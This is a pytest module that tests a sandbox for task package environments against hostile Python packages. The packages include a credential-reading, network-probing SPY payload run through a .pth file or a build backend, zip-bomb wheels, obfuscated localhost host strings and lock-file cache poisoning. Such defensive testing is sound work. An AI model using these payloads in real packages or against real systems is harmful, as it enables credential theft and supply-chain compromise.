"""Attempts by the packages that a task brings along: their code, their size, where they are."""

from __future__ import annotations

import asyncio
import hashlib
import json
import os
import random
from collections.abc import Awaitable, Callable, Iterator
from pathlib import Path
from typing import Any

import msgspec
import pytest

from mycel.core.model.work import Environment, Run
from mycel.drivers.environments.build import EnvironmentSettings
from mycel.drivers.environments.disk_quota import measured
from mycel.drivers.environments.environment_cache import find_uv
from mycel.drivers.interface import Driver
from mycel.drivers.registry import DriverContext, create_drivers
from mycel.testing.drivers.conformance_harness import Harness, open_harness
from tests.adapters.sandbox.subjects import (
    ConfinedProcesses,
    KeptProcesses,
    needs_bubblewrap,
    needs_landlock,
)

from .environment_servers import Shop, served, source_package, wheel, wheel_name

Record = Callable[[str, object], None]
pytestmark = [
    pytest.mark.skipif(find_uv() is None, reason="uv is not installed"),
    needs_bubblewrap,
]
SECRET = "the owl flies at midnight"
SPY = """
import json, os, socket
found = {"uid": os.getuid(), "secrets": [], "reached": []}
for path in %(secrets)r:
    try:
        found["secrets"].append(open(path).read())
    except OSError:
        pass
for address in %(addresses)r:
    try:
        socket.create_connection(tuple(address), timeout=1).close()
        found["reached"].append(address)
    except OSError:
        pass
for place in %(places)r:
    try:
        with open(os.path.join(place, "spied.json"), "w") as file:
            json.dump(found, file)
    except OSError:
        pass
"""


class WithEnvironments(ConfinedProcesses):
    def __init__(self, folder: Path, **settings: Any) -> None:
        super().__init__(folder)
        (folder / "modules").mkdir(exist_ok=True)
        self.environment_settings = EnvironmentSettings(**settings)

    def _made(self, context: DriverContext) -> Driver:
        settings = self.environment_settings
        context = msgspec.structs.replace(context, environment_settings=settings)
        return create_drivers(["process"], context)[0]


class KeptWithEnvironments(WithEnvironments, KeptProcesses):
    """No bubblewrap is found."""


@pytest.fixture
def shop(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Iterator[Shop]:
    tmp_path.chmod(0o755)
    for name in [one for one in os.environ if one.startswith("UV_")]:
        monkeypatch.delenv(name)
    with served() as shop:
        yield shop


def perform(
    subject: WithEnvironments, folder: Path, scenario: Callable[[Harness], Awaitable[Any]]
) -> Any:
    async def play() -> Any:
        async with open_harness(subject, folder) as harness:
            found = await scenario(harness)
            again = await harness.result_of(harness.quick())
            assert again.state == "succeeded", f"the worker does not go on: {again}"
            return found

    return asyncio.run(play())


def task(harness: Harness, text: str, *command: str, user: str = "mallory") -> Run:
    return harness.run(command or ("true",), environment=Environment("", text), user=user)


def spy(folder: Path, shop: Shop) -> tuple[str, Path]:
    """Code that looks around where it runs, and the file by which the outside hears of it."""
    outside, home = folder / "outside", folder / "home"
    outside.mkdir(mode=0o777)
    outside.chmod(0o777)
    home.mkdir(exist_ok=True)
    for name in ("owner.key", "token"):
        (home / name).write_text(SECRET)
        (home / name).chmod(0o600)
    code = SPY % {
        "secrets": [str(home / "owner.key"), str(home / "token")],
        "addresses": [["127.0.0.1", shop.port]],
        "places": [str(outside), str(home), str(folder / "root" / "environments")],
    }
    return code, outside / "spied.json"


def left_of(folder: Path) -> list[Path]:
    """Of environments, caches and builds."""
    kinds = ("environments", "environment-caches", "environment-builds")
    return [path for kind in kinds for path in (folder / "root" / kind).glob("*")]


def test_a_wheel_whose_pth_file_runs_when_its_python_starts(
    shop: Shop, tmp_path: Path, record_property: Record
) -> None:
    code, trace = spy(tmp_path, shop)
    files = {"spy.pth": f"import sys; exec({code!r})\n".encode(), "evil.py": code.encode()}
    shop.content["/evil-1.0-py3-none-any.whl"] = wheel("evil", "1.0", files)
    subject = WithEnvironments(tmp_path, allow_addresses=(f"127.0.0.1:{shop.port}",))

    async def scenario(harness: Harness) -> None:
        text = f"evil @ {shop.url('/evil-1.0-py3-none-any.whl')}\n"
        end = await harness.result_of(task(harness, text, "python", "-c", "import evil"))
        assert end.state == "succeeded", end
        script = "import os, sys; print(os.access(sys.prefix, os.W_OK), os.getuid()); "
        script += "open(sys.prefix + '/x', 'w')"
        end = await harness.result_of(task(harness, text, "python", "-c", script))
        assert end.state == "failed"
        assert end.stdout.split()[0] == b"False", "a task can alter its environment"

    perform(subject, tmp_path, scenario)
    record_property("attack_escaped", trace.exists())
    assert not list(tmp_path.rglob("spied.json"))
    compiled = list((tmp_path / "root" / "environments").rglob("evil.*.pyc"))
    assert compiled, "interpreters would compile it each time"
    if os.geteuid() == 0:
        owners = {path.lstat().st_uid for path in (tmp_path / "root/environments").rglob("*")}
        assert owners == {0}, "a task's user owns parts of it"


@pytest.mark.parametrize("builds", [False, True])
def test_a_source_package_whose_build_runs_code(
    builds: bool, shop: Shop, tmp_path: Path, record_property: Record
) -> None:
    code, trace = spy(tmp_path, shop)
    backend = (
        "import base64, os, sys\n"
        f"{code}\n"
        "with open(os.environ['UV_CACHE_DIR'] + '/spied', 'w') as file: json.dump(found, file)\n"
        f"DATA = {wheel('evil', '1.0', {'evil.py': b''})!r}\n"
        "def build_wheel(folder, *_):\n"
        f"    name = {wheel_name('evil', '1.0')!r}\n"
        "    open(os.path.join(folder, name), 'wb').write(DATA)\n"
        "    return name\n"
    )
    shop.content["/evil-1.0.tar.gz"] = source_package("evil", "1.0", backend)
    allowed = (f"127.0.0.1:{shop.port}",)
    subject = WithEnvironments(tmp_path, allow_addresses=allowed, allow_builds=builds)

    async def scenario(harness: Harness) -> None:
        text = f"evil @ {shop.url('/evil-1.0.tar.gz')}\n"
        end = await harness.result_of(task(harness, text, "python", "-c", "import evil"))
        assert end.state == ("succeeded" if builds else "failed"), end

    perform(subject, tmp_path, scenario)
    assert not list(tmp_path.rglob("spied.json"))
    reports = list((tmp_path / "root" / "environment-caches").glob("*/spied"))
    assert len(reports) == builds, "without allow_builds no code of a package runs"
    found = [json.loads(report.read_text()) for report in reports]
    escaped = any(one["secrets"] or one["reached"] or one["uid"] == 0 for one in found)
    record_property("attack_escaped", trace.exists() or escaped)
    assert not escaped, found


@pytest.mark.parametrize("kind", ["many files", "one file", "many empty files"])
def test_a_small_wheel_that_unpacks_to_much(
    kind: str, shop: Shop, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    limit = 20 << 20
    zeros = bytes(8 << 20)
    files = {
        "many files": {f"bomb/{number}.dat": zeros for number in range(60)},
        "one file": {"bomb.dat": bytes(300 << 20)},
        "many empty files": {f"bomb/{number}": b"" for number in range(20_000)},
    }[kind]
    if kind == "many empty files":
        monkeypatch.setattr("mycel.drivers.environments.disk_quota.ENTRIES_MAX", 2000)
    shop.content["/bomb-1.0-py3-none-any.whl"] = wheel("bomb", "1.0", files)
    subject = WithEnvironments(
        tmp_path, allow_addresses=(f"127.0.0.1:{shop.port}",), size_max=limit
    )
    most = 0

    async def scenario(harness: Harness) -> None:
        nonlocal most
        run = task(harness, f"bomb @ {shop.url('/bomb-1.0-py3-none-any.whl')}\n")
        harness.submit(run)

        def ended() -> bool:
            nonlocal most
            most = max(most, measured([tmp_path / "root"]).bytes_count)
            return run.attempt in harness.recorder.ends

        await harness.until(ended)
        end = harness.recorder.ends[run.attempt]
        assert (end.state, end.driver_fault) == ("failed", False)
        assert ("21 MB" if kind != "many empty files" else "2,000 files") in end.error, end.error
        assert left_of(tmp_path) == []

    perform(subject, tmp_path, scenario)
    assert most < 10 * limit, f"{most} bytes were on disk before it was ended"


def test_a_download_of_more_than_the_quota(shop: Shop, tmp_path: Path) -> None:
    content = {"long.dat": random.Random(1).randbytes(30 << 20)}
    shop.content["/long-1.0-py3-none-any.whl"] = wheel("long", "1.0", content)
    subject = WithEnvironments(
        tmp_path, allow_addresses=("127.0.0.1",), download_bytes_max=5_000_000
    )

    async def scenario(harness: Harness) -> None:
        text = f"long @ {shop.url('/long-1.0-py3-none-any.whl')}\n"
        end = await harness.result_of(task(harness, text))
        assert end.state == "failed"
        assert "max_download" in end.error, end.error
        assert left_of(tmp_path) == []

    perform(subject, tmp_path, scenario)


PLACES = [
    "127.0.0.1",
    "localhost",
    "2130706433",
    "0x7f000001",
    "0177.0.0.1",
    "127.1",
    "0.0.0.0",
    "[::1]",
    "[::ffff:127.0.0.1]",
    "[64:ff9b::7f00:1]",
]


@pytest.mark.parametrize("host", PLACES)
def test_a_package_at_this_machine(
    host: str, shop: Shop, tmp_path: Path, record_property: Record
) -> None:
    shop.content["/evil-1.0-py3-none-any.whl"] = wheel("evil", "1.0", {})
    subject = WithEnvironments(tmp_path)

    async def scenario(harness: Harness) -> None:
        text = f"evil @ {shop.url('/evil-1.0-py3-none-any.whl', host)}\n"
        end = await harness.result_of(task(harness, text))
        assert end.state == "failed"
        assert "allow_addresses" in end.error, end.error

    perform(subject, tmp_path, scenario)
    record_property("attack_escaped", bool(shop.asked))
    assert not shop.asked


@needs_landlock
def test_a_package_at_this_machine_where_only_landlock_holds(shop: Shop, tmp_path: Path) -> None:
    shop.content["/evil-1.0-py3-none-any.whl"] = wheel("evil", "1.0", {})
    text = f"evil @ {shop.url('/evil-1.0-py3-none-any.whl')}\n"

    async def refused(harness: Harness) -> str:
        end = await harness.result_of(task(harness, text))
        assert end.state == "failed"
        return end.error

    assert "allow_addresses" in perform(KeptWithEnvironments(tmp_path), tmp_path, refused)
    assert not shop.asked
    subject = KeptWithEnvironments(tmp_path, allow_builds=True)
    perform(subject, tmp_path, refused)  # finds out what holds
    assert subject.status is not None
    if not subject.status.plan.parts_network:
        other = KeptWithEnvironments(tmp_path, allow_builds=True)
        assert "install bubblewrap" in perform(other, tmp_path, refused)


def test_a_redirect_from_an_allowed_server_to_another(shop: Shop, tmp_path: Path) -> None:
    subject = WithEnvironments(tmp_path, allow_addresses=(f"127.0.0.1:{shop.port}",))
    with served() as other:
        other.content["/evil-1.0-py3-none-any.whl"] = wheel("evil", "1.0", {})
        shop.redirects["/evil-1.0-py3-none-any.whl"] = other.url("/evil-1.0-py3-none-any.whl")

        async def scenario(harness: Harness) -> None:
            text = f"evil @ {shop.url('/evil-1.0-py3-none-any.whl')}\n"
            end = await harness.result_of(task(harness, text))
            assert end.state == "failed"
            assert f"127.0.0.1:{other.port} is not for builds" in end.error, end.error

        perform(subject, tmp_path, scenario)
        assert shop.asked
        assert not other.asked


def test_a_lock_file_that_puts_a_wheel_into_the_cache_under_anothers_name(
    shop: Shop, tmp_path: Path, record_property: Record
) -> None:
    name = wheel_name("tool", "1.0")
    shop.content[f"/files/{name}"] = wheel("tool", "1.0", {"tool.py": b"WHO = 'genuine'\n"})
    evil = shop.content[f"/evil/{name}"] = wheel("tool", "1.0", {"tool.py": b"WHO = 'evil'\n"})
    shop.content["/simple/tool/"] = f'<a href="/files/{name}">{name}</a>'.encode()
    lock = (
        'lock-version = "1.0"\ncreated-by = "mallory"\n\n[[packages]]\nname = "tool"\n'
        f'version = "1.0"\nindex = "{shop.url("/simple")}"\n\n[[packages.wheels]]\n'
        f'url = "{shop.url(f"/evil/{name}")}"\nname = "{name}"\n'
        f'hashes = {{ sha256 = "{hashlib.sha256(evil).hexdigest()}" }}\n'
    )
    plain = f"--index-url {shop.url('/simple')}\ntool==1.0\n"
    subject = WithEnvironments(tmp_path, allow_addresses=(f"127.0.0.1:{shop.port}",))
    command = ("python", "-c", "import tool; print(tool.WHO)")

    async def scenario(harness: Harness) -> bytes:
        end = await harness.result_of(task(harness, lock, *command))
        assert (end.state, end.stdout) == ("succeeded", b"evil\n"), end
        # Her own cache is hers to spoil; the environment that comes of it is hers, too.
        await harness.result_of(task(harness, plain, *command))
        end = await harness.result_of(task(harness, plain, *command, user="alice"))
        assert end.state == "succeeded", end
        return end.stdout

    said = perform(subject, tmp_path, scenario)
    record_property("attack_escaped", said != b"genuine\n")
    assert said == b"genuine\n"


def test_the_owners_index_and_folder_of_wheels_are_used(
    shop: Shop, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    name = wheel_name("tool", "1.0")
    content = wheel("tool", "1.0", {"tool.py": b"WHO = 'owner'\n"})
    shop.content[f"/files/{name}"] = content
    shop.content["/simple/tool/"] = f'<a href="/files/{name}">{name}</a>'.encode()
    wheels = tmp_path / "wheels"
    wheels.mkdir()
    (wheels / name).write_bytes(content)
    command = ("python", "-c", "import tool; print(tool.WHO)")

    async def scenario(harness: Harness) -> None:
        end = await harness.result_of(task(harness, "tool==1.0\n", *command))
        assert (end.state, end.stdout) == ("succeeded", b"owner\n"), end

    with monkeypatch.context() as patch:
        patch.setenv("UV_DEFAULT_INDEX", shop.url("/simple"))
        (tmp_path / "first").mkdir(mode=0o755)
        perform(WithEnvironments(tmp_path / "first"), tmp_path / "first", scenario)
    assert shop.asked
    monkeypatch.setenv("UV_FIND_LINKS", str(wheels))
    monkeypatch.setenv("UV_NO_INDEX", "1")
    (tmp_path / "second").mkdir(mode=0o755)
    perform(WithEnvironments(tmp_path / "second"), tmp_path / "second", scenario)


def test_a_build_that_is_cancelled_leaves_nothing(shop: Shop, tmp_path: Path) -> None:
    subject = WithEnvironments(tmp_path, allow_addresses=("127.0.0.1",), allow_builds=True)
    backend = "import time\ntime.sleep(1000)\n"
    shop.content["/slow-1.0.tar.gz"] = source_package("slow", "1.0", backend)

    async def scenario(harness: Harness) -> None:
        run = task(harness, f"slow @ {shop.url('/slow-1.0.tar.gz')}\n")
        harness.submit(run)
        await harness.until(lambda: "/slow-1.0.tar.gz" in shop.asked)
        harness.driver.kill([run.attempt])
        await harness.until(lambda: not list((tmp_path / "root" / "environments").iterdir()))
        await harness.until(lambda: not list((tmp_path / "root" / "environment-builds").iterdir()))
        assert run.attempt in harness.recorder.taken_back

    perform(subject, tmp_path, scenario)


@needs_landlock
def test_where_only_landlock_holds_wheels_are_installed_by_the_proxy(
    shop: Shop, tmp_path: Path
) -> None:
    name = wheel_name("tool", "1.0")
    shop.content[f"/{name}"] = wheel("tool", "1.0", {"tool.py": b"WHO = 'tool'\n"})
    subject = KeptWithEnvironments(tmp_path, allow_addresses=(f"127.0.0.1:{shop.port}",))

    async def scenario(harness: Harness) -> None:
        command = ("python", "-c", "import tool; print(tool.WHO)")
        end = await harness.result_of(task(harness, f"tool @ {shop.url(f'/{name}')}\n", *command))
        assert (end.state, end.stdout) == ("succeeded", b"tool\n"), end

    perform(subject, tmp_path, scenario)
